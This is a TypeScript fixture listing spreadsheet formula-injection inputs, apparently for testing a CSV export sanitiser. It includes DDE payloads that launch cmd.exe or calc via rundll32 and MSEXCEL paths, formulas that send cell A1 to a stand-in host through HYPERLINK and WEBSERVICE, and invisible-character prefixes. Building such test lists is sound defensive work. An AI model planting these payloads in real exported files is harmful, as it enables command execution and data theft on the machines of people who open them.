/** Cells that a spreadsheet would run as a formula: each sign alone, behind what cannot be seen, and in the forms that are known from attacks. */
export const FORMULA_CELLS: readonly string[] = [
  ...['=', '+', '-', '@', '＝', '＋', '－', '＠'].flatMap((sign) =>
    ['', ' ', '\u00a0', '\t', '\r', '\n', '\u200b'].map((blank) => `${blank}${sign}cmd|'/C calc'!A0`),
  ),
  ...['\tx', '\rx', "'=1", "'x", '=1;=2', '=1"', '+1,"=2"', '=1+1', '+1', '-1', '@x', '-2+3', '+A1', '@SUM(1+1)*cmd|a'],
  '=HYPERLINK("https://example.org?a="&A1,"Click")',
  '=IMPORTXML("https://example.org","//a")',
  '=WEBSERVICE("https://example.org/"&A1)',
  '=IMAGE("https://example.org/x.png")',
  '=DDE("cmd","/C calc","")',
  '=MSEXCEL|"\\..\\..\\..\\Windows\\System32\\cmd.exe"!A0',
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=2+5+cmd|"/C calc"!A0',
  '\ufeff=1',
  '\u202e=1',
  '\u0000=1',
  '  \t\n =1',
  '=\u200b1',
];
